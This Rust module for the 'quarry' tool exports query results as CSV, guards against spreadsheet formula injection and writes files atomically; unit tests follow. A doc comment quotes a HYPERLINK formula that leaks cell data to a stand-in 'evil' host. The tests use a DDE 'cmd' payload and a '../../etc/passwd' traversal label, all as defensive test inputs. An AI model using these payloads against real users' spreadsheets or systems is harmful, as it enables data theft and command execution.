//! CSV export, shared by the workbench (`e`) and `quarry query --format csv`.
//!
//! Two promises from the design's security posture live here:
//!
//! - Cells that a spreadsheet would evaluate as a formula are neutralised
//!   with a leading `'` unless the analyst asks for raw output. Exported
//!   cells are attacker-controlled (a command line can be
//!   `=HYPERLINK("http://evil/?"&A1)`), and analysts open exports in Excel.
//! - Files are written atomically: rows go to a temporary file in the target
//!   directory, which is renamed into place only when complete, so a crash
//!   or a full disk never leaves half a CSV that looks whole. An existing
//!   file is never replaced unless the caller says so.

use std::fs::{self, File, OpenOptions};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use chrono::{DateTime, Utc};

/// How an export is written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExportOptions {
    /// Write cells exactly as they are, without formula neutralisation.
    pub raw: bool,
    /// Replace the target file if it already exists.
    pub overwrite: bool,
}

/// Why [`export_csv_file`] did not produce the file.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The target exists and [`ExportOptions::overwrite`] was false.
    #[error("{} already exists (choose another name, or allow overwriting)", .0.display())]
    Exists(PathBuf),
    /// Creating, writing or renaming failed; `path` is the file involved.
    #[error("cannot write {}: {source}", path.display())]
    Io {
        /// The file being written (the target, not the temporary name).
        path: PathBuf,
        /// The underlying error.
        #[source]
        source: io::Error,
    },
    /// The export was cancelled; nothing was written.
    #[error("export cancelled; nothing was written")]
    Cancelled,
}

/// Writes `header` and then every row as RFC 4180 CSV to `out`, returning
/// the number of data rows written (the header is not counted).
///
/// Unless `raw`, a cell (header names included: they come from the data too)
/// that starts with `=`, `+`, `-`, `@`, TAB or CR is prefixed with `'` so
/// spreadsheets show it as text instead of evaluating it. Plain numbers such
/// as `-42` or `+1.5e3` are left alone: a spreadsheet reads them as numbers,
/// which is harmless and what the analyst wants for negative values.
///
/// Rows shorter or longer than the header are written as they are; the
/// caller formats rows from a frame, so they always match in practice.
pub fn write_csv<W: Write>(
    out: W,
    header: &[String],
    rows: impl Iterator<Item = Vec<String>>,
    raw: bool,
) -> io::Result<u64> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    write_record(&mut writer, header, raw)?;
    let mut count = 0u64;
    for row in rows {
        write_record(&mut writer, &row, raw)?;
        count += 1;
    }
    writer.flush()?;
    Ok(count)
}

fn write_record<W: Write>(
    writer: &mut csv::Writer<W>,
    cells: &[String],
    raw: bool,
) -> io::Result<()> {
    let result = if raw {
        writer.write_record(cells)
    } else {
        writer.write_record(cells.iter().map(|c| CellBytes(neutralise(c))))
    };
    result.map_err(csv_to_io)
}

/// Lets a borrowed-or-owned cell go to the csv writer without copying.
struct CellBytes<'a>(std::borrow::Cow<'a, str>);

impl AsRef<[u8]> for CellBytes<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

fn csv_to_io(err: csv::Error) -> io::Error {
    if err.is_io_error() {
        match err.into_kind() {
            csv::ErrorKind::Io(e) => e,
            other => io::Error::other(format!("{other:?}")),
        }
    } else {
        io::Error::other(err)
    }
}

/// The cell as a spreadsheet should see it: prefixed with `'` when it would
/// otherwise be taken as a formula.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let dangerous = matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    if dangerous && !is_plain_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// `[+-]digits[.digits][(e|E)[+-]digits]`: a value every spreadsheet parses
/// as a number and none evaluates as a formula.
fn is_plain_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    if matches!(b.first(), Some(b'+' | b'-')) {
        i += 1;
    }
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i > start
    };
    if !digits(&mut i) {
        return false;
    }
    if i < b.len() && b[i] == b'.' {
        i += 1;
        if !digits(&mut i) {
            return false;
        }
    }
    if i < b.len() && (b[i] == b'e' || b[i] == b'E') {
        i += 1;
        if i < b.len() && (b[i] == b'+' || b[i] == b'-') {
            i += 1;
        }
        if !digits(&mut i) {
            return false;
        }
    }
    i == b.len()
}

/// Writes a CSV file at `path` atomically, returning the number of data rows.
///
/// The rows are written to a hidden temporary file next to `path` (same
/// directory, so the final rename cannot cross file systems), flushed to
/// disk, then moved into place. On any error, or a panic in the row
/// iterator, the temporary file is removed and `path` is untouched.
///
/// Without [`ExportOptions::overwrite`], an existing `path` is refused with
/// [`ExportError::Exists`], both before writing and at the final step (the
/// file is linked into place with an operation that fails if the name was
/// taken meanwhile).
pub fn export_csv_file(
    path: &Path,
    header: &[String],
    rows: impl Iterator<Item = Vec<String>>,
    opts: &ExportOptions,
) -> Result<u64, ExportError> {
    export_csv_file_until(path, header, rows, opts, &AtomicBool::new(false))
}

/// [`export_csv_file`] that stops when `cancel` is set (the analyst pressed
/// ctrl+c), leaving neither the file nor its temporary behind.
pub fn export_csv_file_until(
    path: &Path,
    header: &[String],
    rows: impl Iterator<Item = Vec<String>>,
    opts: &ExportOptions,
    cancel: &AtomicBool,
) -> Result<u64, ExportError> {
    let io_err = |source| ExportError::Io {
        path: path.to_path_buf(),
        source,
    };
    if !opts.overwrite && fs::symlink_metadata(path).is_ok() {
        return Err(ExportError::Exists(path.to_path_buf()));
    }
    let (file, temp) = create_temp_beside(path).map_err(io_err)?;

    let mut buffered = BufWriter::new(file);
    let rows = rows.take_while(|_| !cancel.load(Ordering::Relaxed));
    let count = write_csv(&mut buffered, header, rows, opts.raw).map_err(io_err)?;
    if cancel.load(Ordering::Relaxed) {
        // `temp` removes the partial file as it goes.
        return Err(ExportError::Cancelled);
    }
    let file = buffered.into_inner().map_err(|e| io_err(e.into_error()))?;
    file.sync_all().map_err(io_err)?;
    drop(file);
    move_into_place(temp, path, opts.overwrite)?;
    Ok(count)
}

/// Writes `bytes` (a chart) at `path` as CSV exports are written: through a
/// temporary file beside it, never over an existing file unless `overwrite`.
pub fn write_file_atomic(path: &Path, bytes: &[u8], overwrite: bool) -> Result<(), ExportError> {
    let io_err = |source| ExportError::Io {
        path: path.to_path_buf(),
        source,
    };
    if !overwrite && fs::symlink_metadata(path).is_ok() {
        return Err(ExportError::Exists(path.to_path_buf()));
    }
    let (mut file, temp) = create_temp_beside(path).map_err(io_err)?;
    file.write_all(bytes).map_err(io_err)?;
    file.sync_all().map_err(io_err)?;
    drop(file);
    move_into_place(temp, path, overwrite)
}

/// Moves a complete temporary file to `path`.
fn move_into_place(temp: TempFile, path: &Path, overwrite: bool) -> Result<(), ExportError> {
    let io_err = |source| ExportError::Io {
        path: path.to_path_buf(),
        source,
    };
    if overwrite {
        fs::rename(&temp.path, path).map_err(io_err)?;
    } else {
        match fs::hard_link(&temp.path, path) {
            Ok(()) => {}
            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => {
                return Err(ExportError::Exists(path.to_path_buf()));
            }
            // Some file systems (FAT, some network shares) have no hard
            // links; there a re-check and rename is the best available.
            Err(_) => {
                if fs::symlink_metadata(path).is_ok() {
                    return Err(ExportError::Exists(path.to_path_buf()));
                }
                fs::rename(&temp.path, path).map_err(io_err)?;
            }
        }
    }
    // After a rename the temp name is gone; after a hard link it must go.
    drop(temp);
    Ok(())
}

/// Removes the temporary file when dropped, whether the export succeeded,
/// failed, or the row iterator panicked.
struct TempFile {
    path: PathBuf,
}

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.path);
    }
}

fn create_temp_beside(target: &Path) -> io::Result<(File, TempFile)> {
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let dir = match target.parent() {
        Some(p) if !p.as_os_str().is_empty() => p,
        _ => Path::new("."),
    };
    let name = target
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "export".to_string());
    let pid = std::process::id();
    loop {
        let n = COUNTER.fetch_add(1, Ordering::Relaxed);
        let path = dir.join(format!(".{name}.{pid}.{n}.tmp"));
        // create_new: never reuse (or follow a planted symlink at) an existing name.
        match OpenOptions::new().write(true).create_new(true).open(&path) {
            Ok(file) => return Ok((file, TempFile { path })),
            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(e),
        }
    }
}

/// A file name for an export made at `now` from a view labelled `label`
/// (usually a table or rule name), like
/// `quarry-NetworkCommunicationEvents-20250318-120000.csv`.
///
/// The label is reduced to characters that are safe in a file name on every
/// platform (ASCII letters, digits, `-`, `_`, `.`); runs of anything else
/// become one `_`, and it is cut to 64 characters. An empty label gives
/// `quarry-20250318-120000.csv`.
pub fn default_export_name(now: DateTime<Utc>, label: &str) -> String {
    let mut clean = String::with_capacity(label.len().min(64));
    let mut pending_sep = false;
    for c in label.chars() {
        if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') {
            if pending_sep && !clean.is_empty() {
                clean.push('_');
            }
            pending_sep = false;
            clean.push(c);
        } else {
            pending_sep = true;
        }
        if clean.len() >= 64 {
            break;
        }
    }
    clean.truncate(64);
    // A leading dot would make a hidden file; leading separators are noise.
    let clean = clean.trim_start_matches(['.', '_', '-']);
    let stamp = now.format("%Y%m%d-%H%M%S");
    if clean.is_empty() {
        format!("quarry-{stamp}.csv")
    } else {
        format!("quarry-{clean}-{stamp}.csv")
    }
}

/// Where an export named `text` goes: inside `dir` unless it is absolute;
/// `~/` is the home directory.
pub fn expand_path(dir: &Path, text: &str) -> PathBuf {
    if let (Some(rest), Some(home)) = (text.strip_prefix("~/"), directories::BaseDirs::new()) {
        return home.home_dir().join(rest);
    }
    let p = Path::new(text);
    if p.is_absolute() {
        p.to_path_buf()
    } else {
        dir.join(p)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| x.to_string()).collect()
    }

    fn csv_string(header: &[&str], rows: &[&[&str]], raw: bool) -> (String, u64) {
        let mut out = Vec::new();
        let n = write_csv(&mut out, &s(header), rows.iter().map(|r| s(r)), raw).unwrap();
        (String::from_utf8(out).unwrap(), n)
    }

    #[test]
    fn formulas_are_neutralised() {
        let (text, n) = csv_string(
            &["Cmd"],
            &[
                &["=1+1"],
                &["+cmd|' /C calc'!A0"],
                &["-2+3"],
                &["@SUM(A1)"],
                &["\tx"],
                &["\rx"],
                &["safe = not first"],
            ],
            false,
        );
        assert_eq!(n, 7);
        assert_eq!(
            text,
            "Cmd\r\n'=1+1\r\n'+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(A1)\r\n'\tx\r\n\"'\rx\"\r\nsafe = not first\r\n"
        );
    }

    #[test]
    fn plain_numbers_are_not_neutralised() {
        for cell in ["-42", "+7", "-1.5", "-2e10", "+3.25E-4", "0", "12"] {
            assert_eq!(neutralise(cell), cell, "{cell}");
        }
        for cell in ["-", "+", "-1.", "-.5", "-1e", "-1-1", "-1 ", "- 1", "-0x10"] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell}");
        }
    }

    #[test]
    fn raw_keeps_cells_as_they_are() {
        let (text, _) = csv_string(&["=H"], &[&["=1+1", "@x"]], true);
        assert_eq!(text, "=H\r\n=1+1,@x\r\n");
    }

    #[test]
    fn header_is_neutralised_too() {
        let (text, n) = csv_string(&["=HYPERLINK(\"x\")", "ok"], &[], false);
        assert_eq!(n, 0);
        assert_eq!(text, "\"'=HYPERLINK(\"\"x\"\")\",ok\r\n");
    }

    #[test]
    fn rfc4180_quoting() {
        let (text, _) = csv_string(
            &["a", "b", "c", "d"],
            &[&["x,y", "say \"hi\"", "line1\nline2", "日本"]],
            false,
        );
        assert_eq!(
            text,
            "a,b,c,d\r\n\"x,y\",\"say \"\"hi\"\"\",\"line1\nline2\",日本\r\n"
        );
    }

    #[test]
    fn empty_cells_and_rows() {
        let (text, n) = csv_string(&["a", "b"], &[&["", ""], &["1", ""]], false);
        assert_eq!(n, 2);
        assert_eq!(text, "a,b\r\n,\r\n1,\r\n");
        // A record of one empty field is quoted, or it would read back as no record.
        let (text, _) = csv_string(&["a"], &[&[""]], false);
        assert_eq!(text, "a\r\n\"\"\r\n");
    }

    fn dir_entries(dir: &Path) -> Vec<String> {
        let mut names: Vec<String> = fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }

    #[test]
    fn file_export_writes_atomically_and_leaves_no_temp() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("out.csv");
        let n = export_csv_file(
            &path,
            &s(&["A", "B"]),
            vec![s(&["1", "=x"]), s(&["2", "y"])].into_iter(),
            &ExportOptions::default(),
        )
        .unwrap();
        assert_eq!(n, 2);
        assert_eq!(
            fs::read_to_string(&path).unwrap(),
            "A,B\r\n1,'=x\r\n2,y\r\n"
        );
        assert_eq!(dir_entries(dir.path()), vec!["out.csv"]);
    }

    #[test]
    fn a_cancelled_export_leaves_nothing_behind() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("out.csv");
        let cancel = AtomicBool::new(false);
        // The analyst cancels while the third row is being made.
        let rows = (0..1000).map(|i| {
            if i == 2 {
                cancel.store(true, Ordering::Relaxed);
            }
            s(&[&i.to_string()])
        });
        let r = export_csv_file_until(&path, &s(&["N"]), rows, &ExportOptions::default(), &cancel);
        assert!(matches!(r, Err(ExportError::Cancelled)), "{r:?}");
        assert_eq!(
            r.unwrap_err().to_string(),
            "export cancelled; nothing was written"
        );
        assert!(dir_entries(dir.path()).is_empty());
    }

    #[test]
    fn refuses_to_overwrite() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("out.csv");
        fs::write(&path, "precious").unwrap();
        let err = export_csv_file(
            &path,
            &s(&["A"]),
            vec![s(&["1"])].into_iter(),
            &ExportOptions::default(),
        )
        .unwrap_err();
        assert!(matches!(&err, ExportError::Exists(p) if p == &path));
        assert_eq!(
            err.to_string(),
            format!(
                "{} already exists (choose another name, or allow overwriting)",
                path.display()
            )
        );
        assert_eq!(fs::read_to_string(&path).unwrap(), "precious");
        assert_eq!(dir_entries(dir.path()), vec!["out.csv"]);
    }

    #[test]
    fn overwrites_when_asked() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("out.csv");
        fs::write(&path, "old").unwrap();
        let opts = ExportOptions {
            raw: true,
            overwrite: true,
        };
        let n = export_csv_file(&path, &s(&["A"]), vec![s(&["=1"])].into_iter(), &opts).unwrap();
        assert_eq!(n, 1);
        assert_eq!(fs::read_to_string(&path).unwrap(), "A\r\n=1\r\n");
        assert_eq!(dir_entries(dir.path()), vec!["out.csv"]);
    }

    #[test]
    fn panic_in_rows_leaves_nothing_behind() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("out.csv");
        let result = std::panic::catch_unwind(|| {
            let rows = (0..3).map(|i| {
                if i == 2 {
                    panic!("row source failed");
                }
                vec![i.to_string()]
            });
            export_csv_file(&path, &s(&["A"]), rows, &ExportOptions::default())
        });
        assert!(result.is_err());
        assert!(dir_entries(dir.path()).is_empty());
    }

    #[test]
    fn missing_directory_is_an_io_error_naming_the_target() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("nope").join("out.csv");
        let err = export_csv_file(
            &path,
            &s(&["A"]),
            std::iter::empty(),
            &ExportOptions::default(),
        )
        .unwrap_err();
        let msg = err.to_string();
        assert!(
            msg.starts_with(&format!("cannot write {}: ", path.display())),
            "{msg}"
        );
    }

    #[test]
    fn export_names() {
        let now = Utc.with_ymd_and_hms(2025, 3, 18, 12, 0, 0).unwrap();
        assert_eq!(
            default_export_name(now, "NetworkCommunicationEvents"),
            "quarry-NetworkCommunicationEvents-20250318-120000.csv"
        );
        assert_eq!(
            default_export_name(now, "Suspicious PowerShell: download/exec"),
            "quarry-Suspicious_PowerShell_download_exec-20250318-120000.csv"
        );
        assert_eq!(
            default_export_name(now, "../../etc/passwd"),
            "quarry-etc_passwd-20250318-120000.csv"
        );
        assert_eq!(default_export_name(now, ""), "quarry-20250318-120000.csv");
        assert_eq!(
            default_export_name(now, "日本"),
            "quarry-20250318-120000.csv"
        );
        let long = "x".repeat(200);
        assert_eq!(
            default_export_name(now, &long),
            format!("quarry-{}-20250318-120000.csv", "x".repeat(64))
        );
    }

    #[test]
    fn paths_are_relative_to_the_export_dir() {
        let dir = Path::new("/work");
        assert_eq!(expand_path(dir, "a.csv"), PathBuf::from("/work/a.csv"));
        assert_eq!(expand_path(dir, "/tmp/a.csv"), PathBuf::from("/tmp/a.csv"));
    }
}
